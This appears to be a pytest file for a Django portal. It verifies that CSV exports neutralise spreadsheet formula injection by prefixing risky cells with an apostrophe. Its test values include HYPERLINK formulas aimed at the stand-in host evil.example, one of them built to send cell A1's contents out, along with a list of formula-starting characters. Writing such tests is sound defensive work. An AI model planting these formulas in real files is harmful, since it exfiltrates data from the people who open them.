"""Every CSV the portal writes is safe to open in a spreadsheet: no cell starts a formula."""

import csv
import io

import pytest
from django.urls import reverse

from common.csv_export import csv_safe_cell
from courses.report_services import supply_report_refresh
from tests.factories import CoordinatorFactory, RegionFactory


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("https://evil.example","x")', '\'=HYPERLINK("https://evil.example","x")'),
        ("+49 511 123", "'+49 511 123"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Hannover", "Hannover"),
        ("30159", "30159"),
        ("a=b", "a=b"),
        (None, ""),
    ],
)
def test_text_that_could_start_a_formula_is_written_as_text(value, written):
    assert csv_safe_cell(value) == written


@pytest.mark.parametrize("number", [-3, 0, 12, -1.5])
def test_numbers_stay_numbers(number):
    assert csv_safe_cell(number) == number


@pytest.mark.django_db
def test_supply_report_csv_neutralises_a_formula_in_the_region_name(client):
    region = RegionFactory(name='=HYPERLINK("https://evil.example/?"&A1,"Bericht")', codes=["30159"])
    supply_report_refresh(region=region)
    client.force_login(CoordinatorFactory(region=region))

    response = client.get(reverse("courses:supply_report_csv"))

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][1] == "'" + region.name
    cells = [cell for row in rows for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
